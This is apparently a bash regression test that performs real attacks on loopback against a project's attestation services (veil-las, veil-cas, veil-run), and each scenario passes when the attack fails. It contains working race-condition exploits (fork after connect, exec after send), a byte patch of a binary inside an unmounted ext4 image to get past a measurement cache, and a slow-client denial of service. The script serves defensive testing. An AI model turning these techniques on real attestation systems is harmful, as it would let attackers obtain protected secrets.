#!/usr/bin/env bash
# Attacks on veil-las (issue 9: H4, M1, M5), each performed for real on
# loopback against veil-las, veil-cas and veil-run; every scenario passes when
# the attack fails. Root (mount namespaces, a loop-mounted ext4 image).
# Every server is started here and stopped by PID. Usage: attack_las.sh BUILD_DIR
#
# Seen against the code before the fix (veil-las and veil-run of 1c7cc1f):
# - t_h4_fork_after_connect: the CAS answered 200 with the seed's
#   API_PASSWORD to the attacker's own key (veil-las measured the pid that
#   connected, the parent, which had become the genuine veil-run).
# - t_h4_exec_after_send: the same with the request sent by the process
#   itself before it exec'd veil-run (without the newline veil-las waited out
#   its 5 s read timeout, then measured the exe the pid had by then).
# - t_m1_offline_change_under_remount: a veil-run copy on an ext4 image,
#   changed while unmounted (same device, inode, size, mtime, ctime after the
#   remount), got the genuine binary's measurement from the cache and the
#   secrets ("API_PASSWORD is set").
#   (After the fix a change the kernel does not see is vouched for at most
#   --cache-seconds: both M1 scenarios run against a veil-las with 1 s and
#   start the changed binary after it; they take root, who can read the
#   platform key anyway.)
# - t_m1_cache_lifetime: --cache-seconds did not exist; run against the old
#   veil-las without it, the binary changed under a live mount behind the
#   filesystem's back started with the secrets 1.5 s later (and would have
#   as long as veil-las ran).
# - t_m5_slow_client_does_not_block: a client dribbling a byte a second held
#   veil-las; the genuine start next to it took 69.7 s.
# - t_m5_silent_las_times_out: veil-run waited on a LAS that accepts and never
#   answers until the test's 30 s guard killed it (exit 124).
set -u
BUILD=$(realpath "$1")
VEIL=$BUILD/veil
ROOT=${VEIL_SOURCE_ROOT:-$(cd "$(dirname "$0")/../.." && pwd)}
SEED=$ROOT/examples/python-hello-user
# veil apply builds each service's image too; with no registry here its base is
# "scratch" (veil's layers alone: docs/images.md)
export VEIL_BASE=scratch
WORK=$(mktemp -d)
PORT=$((20000 + RANDOM % 20000))
URL=https://127.0.0.1:$PORT
export VEIL_HOME=$WORK/home
pids=()
made_python=
mnt=
cleanup() {
	for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
	wait 2>/dev/null
	[ -n "$mnt" ] && mountpoint -q "$mnt" && umount "$mnt"
	[ -n "$made_python" ] && rmdir /python 2>/dev/null
	rm -rf "$WORK"
}
trap cleanup EXIT
. "$ROOT/tests/e2e/lib.sh"

start_las() { # name [flags...]
	local name=$1
	shift
	"$BUILD/veil-las" --socket "$WORK/$name.sock" --data "$WORK/las" "$@" >"$WORK/$name.out" 2>"$WORK/$name.err" &
	pids+=($!)
	wait_for "$WORK/$name.out" "platform key hash"
}
start_service() { # las-name [extra env...]
	local las=$1
	shift
	unshare -m --propagation private bash -c '
		mount --bind "$1" /python || exit 97
		shift
		exec env -i "$@"' _ "$WORK/files" \
		SCONE_CONFIG_ID=myPythonApp/pythonapp SCONE_CAS_ADDR=127.0.0.1:$PORT \
		SCONE_LAS_ADDR="$WORK/$las.sock" VEIL_CAS_KEY="$CAS_KEY" "$@" "${RUNTIME:-$BUILD/veil-run}"
}
# a unix socket that accepts and never answers (a hung veil-las)
start_silent() { # name
	python3 -c '
import socket, sys, time
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(64)
print("listening", flush=True)
held = []
while True:
    held.append(s.accept()[0])' "$WORK/$1.sock" >"$WORK/$1.out" 2>&1 &
	pids+=($!)
	wait_for "$WORK/$1.out" listening
}

# The attacker's TLS key and the report data binding it (SHA-256 of its DER
# SubjectPublicKeyInfo, as veil-run computes it)
make_attacker_key() {
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=attacker \
		-days 1 -keyout "$WORK/att.key" -out "$WORK/att.crt" 2>/dev/null || return 1
	ATT_RD=$(openssl pkey -in "$WORK/att.key" -pubout -outform DER | sha256sum | cut -c1-64)
}
# attest to the CAS with the attacker's key and whatever evidence it got;
# sets $code and leaves the body in $WORK/.body
attest_as_attacker() { # evidence-file
	python3 - "$1" "$FILE_ROOT" >"$WORK/att.json" <<'PY' || return 1
import json, sys
ev = open(sys.argv[1]).read().strip()
print(json.dumps({"config_id": "myPythonApp/pythonapp", "evidence": ev, "file_set_root": sys.argv[2]}))
PY
	code=$(curl -sk --tlsv1.3 --cert "$WORK/att.crt" --key "$WORK/att.key" -o "$WORK/.body" \
		-w '%{http_code}' -X POST --data-binary @"$WORK/att.json" "$URL/v1/attest")
}
# the attack got the seed's secrets: the CAS answered 200 with API_PASSWORD
secrets_released() { [ "$code" = 200 ] && grep -q API_PASSWORD "$WORK/.body"; }

t_setup() {
	[ "$(id -u)" = 0 ] || die "needs root for the mount namespace" || return 1
	if [ ! -d /python ]; then mkdir /python && made_python=1; fi
	start_las las || die "veil-las did not start: $(cat "$WORK/las.err")" || return 1
	"$BUILD/veil-cas" --init --data "$WORK/cas" --listen "127.0.0.1:$PORT" --threads 2 \
		--trust-platform "$("$BUILD/veil-las" --print-key-hash --data "$WORK/las")" >"$WORK/cas.out" 2>"$WORK/cas.err" &
	pids+=($!)
	wait_for "$WORK/cas.out" "key hash" || die "veil-cas did not start" || return 1
	CAS_KEY=$("$BUILD/veil-cas" --print-key-hash --data "$WORK/cas")
	mkdir -p "$WORK/files" "$WORK/app" && cp "$SEED/print_env.py" "$WORK/files/" || return 1
	cd "$WORK/app" || return 1
	VEIL_RUNTIME=$BUILD/veil-run "$VEIL" apply -f "$SEED/service.yaml" --no-push >/dev/null || return 1
	run "$VEIL" apply -f "$SEED/Meshfile" --mode debug --cas "$URL" && ok || return 1
	start_las lasc --cache-seconds 1 || die "veil-las --cache-seconds 1 did not start: $(cat "$WORK/lasc.err")" || return 1
	start_silent silent || die "the silent socket did not start" || return 1
	make_attacker_key || die "no attacker key" || return 1
	# the file-set root is no secret: a debug start prints it
	run start_service las VEIL_LOG=debug && ok && has "API_USER = myself" || return 1
	FILE_ROOT=$(sed -n 's/.*file-set root of \/python: \([0-9a-f]\{64\}\).*/\1/p' <<<"$err")
	[ ${#FILE_ROOT} = 64 ] || die "no file-set root in: $err"
}

# H4: connect, fork; the parent execs the genuine veil-run (kept alive on a
# LAS that never answers), the child asks on the inherited connection for
# evidence bound to its own key and attests with it
t_h4_fork_after_connect() {
	(timeout 30 python3 - "$WORK/las.sock" "$ATT_RD" "$BUILD/veil-run" "$WORK/silent.sock" >"$WORK/ev1" 2>"$WORK/ev1.err"; true) 2>/dev/null <<'PY'
import os, socket, sys, time
las, rd, vr, silent = sys.argv[1:5]
s = socket.socket(socket.AF_UNIX); s.connect(las)
if os.fork() == 0:
    parent = os.getppid()
    for _ in range(300):  # until the parent is the genuine veil-run
        try:
            if os.readlink("/proc/%d/exe" % parent) == vr:
                break
        except OSError:
            pass
        time.sleep(0.01)
    time.sleep(0.05)
    s.sendall(b"REPORT " + rd.encode() + b" myPythonApp/pythonapp\n")
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        if chunk.startswith(b"CHALLENGE "):  # a protocol-aware attacker answers it
            s.sendall(b"RESPONSE " + chunk.split()[1] + b"\n")
            continue
        data += chunk
    sys.stdout.write(data.decode()); sys.stdout.flush()
    os.kill(parent, 9)
    os._exit(0)
os.execve(vr, [vr], {"SCONE_CONFIG_ID": "myPythonApp/pythonapp", "SCONE_CAS_ADDR": "127.0.0.1:1",
                     "VEIL_CAS_KEY": "0" * 64, "SCONE_LAS_ADDR": silent})
PY
	attest_as_attacker "$WORK/ev1" || return 1
	! secrets_released || die "the CAS released the secrets to the attacker's key" || return 1
	# the child was measured (python3), or refused outright
	grep -q '^ERROR' "$WORK/ev1" || [ "$code" = 403 ] || die "CAS answered $code: $(cat "$WORK/.body")"
}

# H4, the same pid: the process sends the request for its own key, then
# execs the genuine veil-run before veil-las measures it; a forked child
# holds the connection and reads the evidence
t_h4_exec_after_send() {
	local nl
	for nl in no yes; do
		(timeout 30 python3 - "$WORK/las.sock" "$ATT_RD" "$BUILD/veil-run" "$WORK/silent.sock" $nl >"$WORK/ev2" 2>"$WORK/ev2.err"; true) 2>/dev/null <<'PY'
import os, socket, sys, time
las, rd, vr, silent, nl = sys.argv[1:6]
s = socket.socket(socket.AF_UNIX); s.connect(las)
os.set_inheritable(s.fileno(), True)
r, w = os.pipe()
child = os.fork()
if child == 0:
    os.close(w)
    parent = os.getppid()
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        if chunk.startswith(b"CHALLENGE "):
            s.sendall(b"RESPONSE " + chunk.split()[1] + b"\n")
            continue
        data += chunk
    sys.stdout.write(data.decode()); sys.stdout.flush()
    os.kill(parent, 9)
    os._exit(0)
s.sendall(b"REPORT " + rd.encode() + b" myPythonApp/pythonapp" + (b"\n" if nl == "yes" else b""))
os.execve(vr, [vr], {"SCONE_CONFIG_ID": "myPythonApp/pythonapp", "SCONE_CAS_ADDR": "127.0.0.1:1",
                     "VEIL_CAS_KEY": "0" * 64, "SCONE_LAS_ADDR": silent})
PY
		attest_as_attacker "$WORK/ev2" || return 1
		! secrets_released || die "(newline: $nl) the CAS released the secrets to the attacker's key" || return 1
	done
}

# M1: a veil-run copy on a loop-mounted ext4 image; unmounted, its bytes are
# changed in the image (a string in its --help: it still runs), mounted
# again: the same device, inode, size, mtime and ctime
loop_runtime_setup() { # image
	truncate -s 64M "$1" && mkfs.ext4 -q -F -b 4096 "$1" || return 1
	mnt=$WORK/mnt
	mkdir -p "$mnt" && mount -o loop "$1" "$mnt" || return 1
	cp "$BUILD/veil-run" "$mnt/vr" && sync
}
# flips "takes no arguments" to "TAKES no arguments" in the image's copy of vr
patch_image() { # image
	local off blk phys
	off=$(grep -boa "takes no arguments" "$BUILD/veil-run" | head -1 | cut -d: -f1)
	[ -n "$off" ] || return 1
	blk=$(debugfs -R "blocks /vr" "$1" 2>/dev/null | tr ' ' '\n' | sed -n "$((off / 4096 + 1))p")
	[ -n "$blk" ] || return 1
	phys=$((blk * 4096 + off % 4096))
	printf 'TAKES' | dd of="$1" bs=1 seek="$phys" conv=notrunc status=none
}
ident() { stat -c '%d %i %s %Y %Z' "$1"; }

t_m1_offline_change_under_remount() {
	local img=$WORK/rt.img before after
	loop_runtime_setup "$img" || die "no loop mount" || return 1
	RUNTIME=$mnt/vr run start_service lasc && ok && has "API_USER = myself" || return 1
	before=$(ident "$mnt/vr")
	umount "$mnt" && patch_image "$img" && mount -o loop "$img" "$mnt" || die "cannot change the image" || return 1
	after=$(ident "$mnt/vr")
	[ "$before" = "$after" ] || die "identity changed ($before / $after): not the attack" || return 1
	grep -qa "TAKES no arguments" "$mnt/vr" || die "the change is not in the file" || return 1
	sleep 1.5
	RUNTIME=$mnt/vr run start_service lasc
	local st=$rc
	umount "$mnt" && mnt=
	[ $st = 1 ] || die "the changed binary started (exit $st): $out" || return 1
	has "not in policy myPythonApp/pythonapp" && lacks "API_USER ="
}

# M1, what no file identity shows: the image changed under a live mount,
# behind the filesystem's back (and its page cache dropped). veil-las
# vouches for the old bytes at most --cache-seconds long
t_m1_cache_lifetime() {
	local img=$WORK/rt2.img
	loop_runtime_setup "$img" || die "no loop mount" || return 1
	RUNTIME=$mnt/vr run start_service lasc && ok && has "API_USER = myself" || return 1
	patch_image "$img" && sync "$img" || return 1
	dd if="$mnt/vr" iflag=nocache count=0 status=none # evict its pages: read from disk again
	grep -qa "TAKES no arguments" "$mnt/vr" || die "the change is not visible" || return 1
	sleep 1.5
	RUNTIME=$mnt/vr run start_service lasc
	local st=$rc
	umount "$mnt" && mnt=
	[ $st = 1 ] || die "the changed binary started (exit $st): $out" || return 1
	has "not in policy myPythonApp/pythonapp" && lacks "API_USER ="
}

# M5: one slow client must not hold up the others
t_m5_slow_client_does_not_block() {
	python3 - "$WORK/las.sock" >"$WORK/dribble.out" 2>&1 <<'PY' &
import socket, sys, time
s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])
start = time.monotonic()
try:
    for b in b"REPORT " + b"0" * 64 + b" myPythonApp/pythonapp\n":
        s.sendall(bytes([b]))
        time.sleep(1)
except OSError:
    pass
s.settimeout(30)
try:
    data = s.recv(4096)
except OSError:
    data = b""
print("cut off after %.1f s: %r" % (time.monotonic() - start, data[:60]), flush=True)
PY
	local dribbler=$! a b
	pids+=($dribbler)
	sleep 1.5
	a=$(date +%s%N)
	run start_service las && ok && has "API_USER = myself" || return 1
	b=$(date +%s%N)
	[ $(((b - a) / 1000000)) -lt 3000 ] || die "a start took $(((b - a) / 1000000)) ms next to a slow client" || return 1
	# and veil-las drops the dribbler at its whole-request deadline
	wait "$dribbler"
	grep -q "cut off after [0-9]" "$WORK/dribble.out" || die "dribbler: $(cat "$WORK/dribble.out")" || return 1
	local s
	s=$(sed -n 's/cut off after \([0-9]*\)\..*/\1/p' "$WORK/dribble.out")
	[ "$s" -le 10 ] || die "the dribbler was served for $s s"
}

t_m5_silent_las_times_out() {
	local a b
	a=$(date +%s)
	run timeout 30 env -i SCONE_CONFIG_ID=myPythonApp/pythonapp SCONE_CAS_ADDR=127.0.0.1:$PORT \
		SCONE_LAS_ADDR="$WORK/silent.sock" VEIL_CAS_KEY="$CAS_KEY" "$BUILD/veil-run"
	b=$(date +%s)
	[ "$rc" = 1 ] || die "exit $rc (124: still waiting after 30 s)" || return 1
	has "veil-las at $WORK/silent.sock did not answer within 10 s" && [ $((b - a)) -le 15 ]
}

run_in_order attack_las t_setup t_h4_fork_after_connect t_h4_exec_after_send \
	t_m1_offline_change_under_remount t_m1_cache_lifetime t_m5_slow_client_does_not_block \
	t_m5_silent_las_times_out
